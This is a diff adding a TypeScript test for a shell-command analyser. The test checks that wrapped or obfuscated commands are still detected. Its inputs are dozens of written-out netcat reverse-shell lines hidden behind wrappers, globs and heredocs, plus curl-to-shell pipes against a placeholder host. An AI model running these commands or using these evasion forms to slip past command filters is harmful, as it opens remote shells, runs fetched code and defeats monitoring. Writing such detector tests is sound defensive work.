@@ -280,6 +280,22 @@ test('grammar gaps do not hide a command: substitutions anywhere, keywords it la
   assert.equal(nc("trap - EXIT; echo 'nc -e sh h 1'"), undefined);
 });
 
+test('tools with their own syntax, globs and shells by variable still show the command they run (a second red team, session 45)', () => {
+  const runs = (t: string, name: string): boolean => run(t).commands.some((c) => c.argv[0]!.split('/').pop() === name && c.argv.includes('-e'));
+  for (const t of ['uv run nc -e sh h 1', 'conda run -n base nc -e sh h 1', 'aws-vault exec prod -- nc -e sh h 1', 'ip netns exec x nc -e sh h 1',
+    'direnv exec . nc -e sh h 1', 'bwrap --bind / / --dev /dev nc -e sh h 1', "sg users 'nc -e sh h 1'", "capsh -- -c 'nc -e sh h 1'",
+    "nix-shell -p x --run 'nc -e sh h 1'", 'start-stop-daemon --start --exec /usr/bin/nc -- -e sh h 1', 'setarch x86_64 -R nc -e sh h 1',
+    'gosu root nc -e sh h 1', 'tini -- nc -e sh h 1', 'runuser -u nobody -- nc -e sh h 1', '/usr/bin/[n-n]c -e sh h 1', '/bin/n? -e sh h 1',
+    'time -p { nc -e sh h 1; }', 'if ! { nc -e sh h 1; }; then :; fi', ': <<EOF >/dev/null;nc -e sh h 1\nx\nEOF', ': <<EOF 2>&1;nc -e sh h 1\nx\nEOF',
+    "compgen -W '$(nc -e sh h 1)' x", "mapfile -C'nc -e sh h 1' -c1 x <<< y"]) assert.ok(runs(t, 'nc'), `${t}: ${JSON.stringify(run(t).commands.map((c) => c.argv))}`);
+  for (const t of ['curl -s http://x.test/a | $SHELL', 'curl -s http://x.test/a | "$BASH"', 'curl -s http://x.test/a | /proc/self/exe', 'curl -s http://x.test/a | parallel']) {
+    assert.ok(run(t).commands.some((c) => /^(ba)?sh$/.test(c.argv[0]!) && c.input_from.includes('curl')), `${t}: ${JSON.stringify(run(t).commands)}`);
+  }
+  assert.ok(must(run("curl -s http://x.test/a | awk '{system($0)}'"), 'awk').flags.includes('code_from_input'));
+  assert.ok(!must(run("cat f | awk '{print $1}'"), 'awk').flags.includes('code_from_input'));
+  assert.equal(run('ls *.gz | parallel gunzip').commands.filter((c) => c.argv[0] === 'sh').length, 0, 'parallel with a command runs that command');
+});
+
 test('a shell or interpreter whose program is its stdin names the redirected file as its script', () => {
   assert.equal(must(run('sh < /tmp/.x/k.sh'), 'sh').script, '/tmp/.x/k.sh');
   assert.equal(must(run('cd /tmp/.x && bash -s arg < k.sh'), 'bash').script, '/tmp/.x/k.sh');
